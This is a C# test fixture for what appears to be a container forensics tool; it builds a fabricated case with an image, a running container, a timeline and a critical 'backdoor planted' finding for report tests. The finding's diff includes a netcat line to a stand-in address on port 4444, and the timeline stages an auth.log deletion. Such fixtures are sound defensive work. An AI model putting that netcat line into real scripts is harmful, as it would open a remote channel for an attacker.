using System.Text;
using StoreForensics.Cases;
using StoreForensics.Evidence;
using StoreForensics.Model;
using StoreForensics.Primitives;
using StoreForensics.Timeline;

namespace StoreForensics.Tests.Reports.Html.Browser;

/// <summary>A small case with a story: an image built, a container run and changed, its log, and findings.</summary>
internal static class WorkedCase
{
    /// <summary>2026-11-24 04:00:00 UTC.</summary>
    public const long Start = 1_795_492_800;

    private static readonly Origin s_origin = new("e", new EvidencePath("containers/web/config.v2.json"u8.ToArray()));

    public static Case Make(int files = 300)
    {
        var store = new StoreInfo { Name = "overlay2", Driver = "overlay2", Era = "layered", Root = s_origin };
        var source = new FakeSource((Encoding.UTF8.GetBytes("etc/passwd"), FakeSource.File(120)));
        var inventory = new Inventory();
        var layer = new Layer { Id = new string('a', 64), Store = store, Origin = s_origin, Role = LayerRole.Image, Files = source.Files };
        var own = new Layer { Id = new string('b', 64), Store = store, Origin = s_origin, Role = LayerRole.Container, Files = source.Files, Parent = layer };
        var image = new Image { Id = "sha256:" + new string('c', 64), Store = store, Origin = s_origin };
        image.References.Add(new ImageReference("shop/web", "1.4", null));
        image.Layers.Add(layer);
        layer.Images.Add(image);
        var container = new Container
        {
            IsConfigKnown = true,
            IsHostConfigKnown = true,
            Id = new string('d', 64),
            Store = store,
            Origin = s_origin,
            Name = "web",
            Image = image,
            ImageId = image.Id,
            Layer = own,
            State = "running",
            Logs = [new LogFile(source, 1, LogFormat.JsonFile)]
        };
        own.Containers.Add(container);
        inventory.Stores.Add(store);
        inventory.Layers.AddRange([layer, own]);
        inventory.Images.Add(image);
        inventory.Containers.Add(container);
        Finding dropped = Finding("planted-file", FindingSeverity.Critical, "Backdoor planted", Start + 5000, "/usr/bin/.sh") with
        {
            Content = new FindingContent
            {
                Before = new FileGlance("text", 6, null),
                After = new FileGlance("script for /bin/sh", 40, new string('d', 64)),
                Difference = "@@ -1 +1,2 @@\n-start\n+#!/bin/sh\n+nc 192.0.2.1 4444\n",
                Elsewhere = ["shop/web:1.4:/opt/x"],
            },
        };
        Finding[] findings = [dropped, Finding("odd-name", FindingSeverity.Low, "Odd name", Start + 2, null)];
        return new Case
        {
            Details = new CaseDetails { CaseName = "Shop" },
            Tool = new ToolDetails("storeforensics", "1", "storeforensics analyze e"),
            Evidence = [new EvidenceDetails { Name = "e", Wrapping = ["tar"], Sha256 = new string('e', 64), Sha256Of = "the file's bytes", Entries = 9 }],
            Inventory = inventory,
            Timeline = Events(image, container, layer, own, files),
            Problems = [],
            Findings = findings,
            Story = new StoryPicture(
                [new Timestamp(Start, 0), new Timestamp(Start + 5000, 0)],
                [
                    new SwimLane("e", ["shop/web:1.4"], false, 0, null, [new LaneMark(0, FindingSeverity.Medium, [findings[1]])]),
                    new SwimLane("e", ["web"], true, 0, null, [new LaneMark(1, FindingSeverity.Critical, [dropped])]),
                ],
                [new LaneTie(0, 1, "runs", 0)], 0),
            Chronology =
            [
                new ChronologyEntry(new Timestamp(Start, 0), "The image shop/web:1.4 was built.", null, s_origin),
                new ChronologyEntry(new Timestamp(Start + 5000, 0), "/usr/bin/.sh was dropped into web.", FindingSeverity.Critical,
                    s_origin) { Rule = "planted-file", Count = 3 },
            ],
        };
    }

    private static Finding Finding(string rule, FindingSeverity severity, string title, long time, string? path) => new()
    {
        Rule = rule,
        Severity = severity,
        Confidence = FindingConfidence.High,
        Title = title,
        Reason = $"{path ?? "A name"} is odd.",
        Attack = ["T1036"],
        Next = "Who put it there.",
        Subjects = ["web"],
        Path = path is null ? (EvidencePath?)null : EvidencePath.FromString(path),
        Time = new Timestamp(time, 0),
        Origins = [s_origin],
    };

    // Files of the image in the first second, then a log line a minute for an hour, then the planted file and a deletion.
    private static FakeTimeline Events(Image image, Container container, Layer layer, Layer own, int files)
    {
        var ofImage = new EventSubject
        {
            Index = 0,
            Evidence = "e",
            Store = "overlay2",
            Images = ["shop/web:1.4"],
            ImageIds = [image.Id],
            Step = 1,
            Command = "RUN make",
            Layer = layer.Id
        };
        var ofContainer = new EventSubject
        {
            Index = 1,
            Evidence = "e",
            Store = "overlay2",
            Images = ["shop/web:1.4"],
            ImageIds = [image.Id],
            Containers = ["web"],
            ContainerIds = [container.Id]
        };
        var ofLayer = new EventSubject { Index = 2, Evidence = "e", Store = "overlay2", Containers = ["web"], ContainerIds = [container.Id], Layer = own.Id };
        return new FakeTimeline(files + 62, (i, e) =>
        {
            e.TimeMeaning = "File modified (mtime)";
            if (i < files)
                File(e, Start, i, ofImage, $"/usr/share/d{i % 7}/File-{i}.txt", i * 10, EventType.LayerFileModified, 'A');
            else if (i < files + 60)
                (e.Time, e.Type, e.Subject, e.Message) =
                    (new Timestamp(Start + ((i - files) * 60), 5), EventType.ContainerLog, ofContainer,
                    Encoding.UTF8.GetBytes($"stdout: line {i - files} mining"));
            else if (i == files + 60)
                File(e, Start + 5000, 0, ofLayer, "/usr/bin/.sh", 1_982_256, EventType.LayerFileModified, 'A', 0x9ed);
            else
                File(e, Start + 5001, 0, ofLayer, "/var/log/auth.log", null, EventType.LayerFileDeleted, 'D');
        });
    }

    private static void File(TimelineEvent e, long seconds, int nanoseconds, EventSubject subject, string path, long? size, EventType type, char change,
        int mode = 0x1a4)
    {
        (e.Time, e.Type, e.Subject, e.Change, e.Kind, e.Mode, e.Uid, e.Gid, e.Size) =
            (new Timestamp(seconds, nanoseconds), type, subject, change, EntryKind.File, mode, 0, 0, size);
        e.Path = Encoding.UTF8.GetBytes(path);
        e.Message = Encoding.UTF8.GetBytes("File modified: " + path);
        e.Origin = Encoding.UTF8.GetBytes($"overlay2/{subject.Layer}/diff{path}");
        e.Tag = change == 'D' ? "inferred" : "";
    }
}
